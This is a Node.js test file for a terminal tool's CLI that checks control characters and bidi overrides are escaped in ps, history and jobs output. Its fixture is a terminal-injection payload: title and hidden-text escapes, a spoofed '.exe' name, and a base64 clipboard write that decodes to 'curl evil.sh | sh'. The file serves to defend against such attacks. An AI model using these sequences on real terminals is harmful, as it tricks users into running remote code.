import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { amuxHome } from '../helpers/amux.js';

/** Anything a terminal would act on: C0 but newline, DEL, C1 (as UTF-8), bidi overrides and isolates. */
const ACTS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = '\u001b]0;PWNED\u0007\u001b[8m\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 \u009b31m \u202egnp.exe';

/** Issue 34 item 11: no escape sequence reaches the user's terminal through table output. */
describe('table output shows control characters escaped', () => {
  const h = amuxHome({ after });

  test('a command with escapes, C1 and bidi characters: ps, history, jobs and --format', async () => {
    const id = await h.ok(['run', '-n', 'hostile', '--', `sleep 120 # ${HOSTILE}`]);
    for (const args of [['ps'], ['ps', '--no-trunc'], ['history'], ['jobs', id], ['ps', '--format', '{{.Command}} {{json .Command}}'], ['ps', '--format', 'table {{.ID}}\t{{.Command}}']]) {
      const out = await h.ok(args);
      assert.doesNotMatch(out, ACTS, `${args.join(' ')}: ${JSON.stringify(out)}`);
      assert.match(out, /sleep 120 # \\u001b\]0;PWNED/, args.join(' '));
    }
    assert.match(await h.ok(['ps', '--no-trunc']), /\\u202egnp\.exe/);
    // --json is unchanged: JSON escapes C0 itself, and a reader gets the exact text.
    assert.equal((await h.json<{ id: string; command: string }[]>(['ps'])).find((s) => s.id === id)!.command, `sleep 120 # ${HOSTILE}`);
  });

  test('a process name (/proc/self/comm) with escapes, shown as a shell session\'s foreground', async () => {
    const shell = await h.ok(['run']);
    await h.ok(['send', shell, `bash -c 'printf "\\e]0;PW\\a\\e[8m" > /proc/self/comm; read x'`]);
    await h.until(shell, (s) => typeof s.foreground === 'string' && s.foreground.includes('PW'));
    const out = await h.ok(['ps']);
    assert.doesNotMatch(out, ACTS, JSON.stringify(out));
    assert.match(out, /\(shell\) \\u001b\]0;PW\\u0007/);
  });
});
